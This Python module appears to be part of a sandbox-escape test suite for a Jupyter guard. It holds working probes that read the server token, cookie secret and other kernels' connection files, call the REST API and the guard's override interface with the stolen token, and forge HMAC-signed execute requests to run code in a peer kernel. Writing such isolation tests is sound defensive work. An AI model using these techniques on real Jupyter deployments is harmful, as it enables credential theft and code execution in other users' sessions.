"""The server that started the kernel, and its other kernels: the token, the connection files, the interfaces."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import socket
from contextlib import closing, suppress

from .base import Judge, Target, attack, each
from .wire import connect


def _runtime(target: Target, start: str) -> str:
    folder = target.world.runtime
    for name in sorted(os.listdir(folder)):
        if name.startswith(start):
            with open(f"{folder}/{name}", encoding="utf-8") as file:
                return file.read()
    return "nothing there"


@attack(Judge.SECRET, "the server's token", secret="token")
def token(target: Target) -> str:
    return _runtime(target, "jpserver-")


@attack(Judge.SECRET, "the server's cookie secret", secret="cookie")
def cookie(target: Target) -> str:
    return _runtime(target, "jupyter_cookie_secret")


@attack(Judge.SECRET, "another kernel's connection file", secret="connection")
def connection(target: Target) -> str:
    return _runtime(target, "kernel-other")


_CALLS: dict[str, object] = {
    "start a kernel": ("POST", "/api/kernels", "{}"),
    "open a terminal": ("POST", "/api/terminals", "{}"),
    "write a kernelspec": ("PUT", "/api/contents/x.json", '{"type":"file","format":"text","content":"x"}'),
    "the guard's own interface": ("POST", "/qguard/api/v1/overrides", "{}"),
}


@each(Judge.PACKET, "the server's interface with its own token", _CALLS)
def rest(target: Target, case: object) -> str:
    method, path, body = case  # type: ignore[misc]
    with suppress(OSError):
        target_token = json.loads(_runtime(target, "jpserver-"))["token"]
        head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: token {target_token}\r\n"
        with closing(socket.create_connection(("127.0.0.1", target.port), 2)) as end:
            end.settimeout(1)
            end.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
            return repr(end.recv(100))
    with closing(socket.create_connection(("127.0.0.1", target.port), 2)):
        return "connected without a token"


@attack(Judge.PACKET, "the server's interface through the proxy")
def rest_proxied(target: Target) -> str:
    return connect(f"127.0.0.1:{target.port}", b"GET /api HTTP/1.1\r\n\r\n")


@attack(Judge.ACCEPTED, "another kernel by its ipc socket")
def kernel_ipc(target: Target) -> str:
    with closing(socket.socket(socket.AF_UNIX)) as end:
        end.connect(target.world.sockets["kernel"])
        end.send(target.nonce.encode())
    return "connected"


def _signed(key: str, code: str) -> list[bytes]:
    head = json.dumps({"msg_id": "a", "msg_type": "execute_request", "username": "", "session": "a", "version": "5.3"})
    content = json.dumps(
        {"code": code, "silent": True, "store_history": False, "user_expressions": {}, "allow_stdin": False}
    )
    parts = [each.encode() for each in (head, "{}", "{}", content)]
    signature = hmac.new(key.encode(), b"".join(parts), hashlib.sha256).hexdigest()
    return [b"<IDS|MSG>", signature.encode(), *parts]


@attack(Judge.WRITTEN, "code in the peer kernel, with its key", path="{home}/.peer-ran")
def peer(target: Target) -> str:
    import zmq

    told = target.world.peer
    code = f"open({target.path!r}, 'w').write({target.nonce!r})"
    context = zmq.Context()
    end = context.socket(zmq.DEALER)
    address = (
        f"{told['ip']}-{told['shell_port']}" if told["transport"] == "ipc" else f"{told['ip']}:{told['shell_port']}"
    )
    end.connect(f"{told['transport']}://{address}")
    end.send_multipart(_signed(str(told["key"]), code))
    said = "answered" if end.poll(1500) else "no answer"
    context.destroy(linger=0)
    return said
